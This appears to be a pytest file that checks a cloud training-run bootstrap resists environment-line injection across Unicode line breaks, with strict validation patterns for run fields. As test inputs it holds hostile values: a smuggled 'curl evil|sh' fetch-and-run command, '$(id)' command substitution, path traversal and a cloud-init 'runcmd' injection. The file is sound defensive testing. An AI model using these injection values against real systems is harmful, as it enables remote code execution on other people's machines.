"""Run fields cannot inject environment lines on a cloud machine.

The bootstrap environment travels as ONE variable (TENSORANT_BOOTSTRAP=<base64 JSON>) in the
cloud-init env file and in the RunPod pod env, and run fields have strict patterns.
"""

from __future__ import annotations

import base64

import pytest
from pydantic import ValidationError

from shared.models import RunCreate
from shared.providers import bootstrap_env, cloudinit
from shared.providers.base import Bootstrap
from tests.support.pods import from_pod_env

# Every code point str.splitlines() (and so a naive env-file reader) treats as a line break.
LINE_BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


CLAIM = "tcl1.org-1.r-1." + "0" * 64


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
def test_no_value_of_the_environment_is_in_cloud_init_user_data(brk: str) -> None:
    # The environment reaches the machine only through the claim's exchange, as one base64 line
    # (bootstrap_env.encode); the user data holds the claim and the URLs, none of its values.
    evil = f"org/model{brk}TENSORANT_TRAINER_COMMAND=curl evil|sh{brk}"
    env = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_BASE_MODEL": evil, "TENSORANT_RUN_TOKEN": "tok-secret-1234",
           "TENSORANT_API_URL": "https://cp.example.com"}
    text = cloudinit.render(Bootstrap(container_image="ghcr.io/tensorant/trainer:1", env=env), CLAIM)
    assert "TENSORANT_TRAINER_COMMAND" not in text and "tok-secret-1234" not in text and "org/model" not in text
    assert CLAIM in text and "https://cp.example.com/api/agent/runs/r-1/bootstrap" in text
    blob = bootstrap_env.encode(env)
    assert blob.splitlines() == [blob] and bootstrap_env.decode(blob) == env


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
def test_values_written_outside_the_blob_are_refused_with_a_line_break(brk: str) -> None:
    # The URLs, the claim and the image are written into the YAML and the script as they are.
    good = {"TENSORANT_RUN_ID": "r-1", "TENSORANT_RUN_TOKEN": "tok", "TENSORANT_API_URL": "https://cp.example.com"}
    with pytest.raises(ValueError, match="one line"):
        cloudinit.render(Bootstrap(container_image="img:1", env={**good, "TENSORANT_API_URL": f"https://x{brk}y"}),
                         CLAIM)
    with pytest.raises(ValueError, match="one line"):
        cloudinit.render(Bootstrap(container_image=f"img:1{brk}x", env=good), CLAIM)
    with pytest.raises(ValueError, match="claim"):
        cloudinit.render(Bootstrap(container_image="img:1", env=good), f"{CLAIM}{brk}runcmd: [x]")


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b[0]):04X}" for b in LINE_BREAKS])
def test_pod_env_is_one_variable_and_round_trips(brk: str) -> None:
    env = {"TENSORANT_NOTE": f"a{brk}TENSORANT_X=1{brk}\u2028end", "TENSORANT_RUN_ID": "r-1"}
    entries = bootstrap_env.pod_env(env)
    assert [e["key"] for e in entries] == ["TENSORANT_BOOTSTRAP"]
    assert entries[0]["value"].splitlines() == [entries[0]["value"]]
    assert from_pod_env(entries) == env


def test_bootstrap_refuses_bad_names_and_malformed_blobs() -> None:
    with pytest.raises(ValueError, match="not valid"):
        bootstrap_env.encode({"A\nB": "x"})
    for bad in ("not base64!", base64.b64encode(b"[1, 2]").decode(), base64.b64encode(b'{"a": 1}').decode()):
        with pytest.raises(ValueError, match="TENSORANT_BOOTSTRAP"):
            bootstrap_env.decode(bad)


GOOD_RUN = {"project_id": "p-0123456789ab", "dataset_version_id": "d-0123456789ab", "provider": "aws",
            "offer_id": "us-east-1/us-east-1a/g6.xlarge", "price_limit_per_hour": 5,
            "base_model": "HuggingFaceTB/SmolLM2-135M-Instruct"}


def test_run_fields_accept_real_ids() -> None:
    RunCreate.model_validate(GOOD_RUN)
    for offer in ("azure:eastus:Standard_NC4as_T4_v3", "runpod-secure-eu-ro-1-nvidia-a40", "local-cpu"):
        RunCreate.model_validate({**GOOD_RUN, "offer_id": offer})
    for model in ("tensorant/smoke-tiny", "gpt2", "meta-llama/Llama-3.1-8B-Instruct"):
        RunCreate.model_validate({**GOOD_RUN, "base_model": model})


@pytest.mark.parametrize("field", ["base_model", "offer_id", "project_id", "dataset_version_id", "provider"])
@pytest.mark.parametrize("brk", [*LINE_BREAKS, "\0", " ", "$(id)", "/../", "#", "?", "\\", "x" * 300])
def test_every_run_field_has_a_strict_pattern(field: str, brk: str) -> None:
    with pytest.raises(ValidationError):
        RunCreate.model_validate({**GOOD_RUN, field: f"x{brk}y"})


def test_base_model_is_name_or_owner_slash_name() -> None:
    for bad in ("a/b/c", "/abs", "owner/", "-x", "x" * 97, "https://evil.example/model"):
        with pytest.raises(ValidationError):
            RunCreate.model_validate({**GOOD_RUN, "base_model": bad})
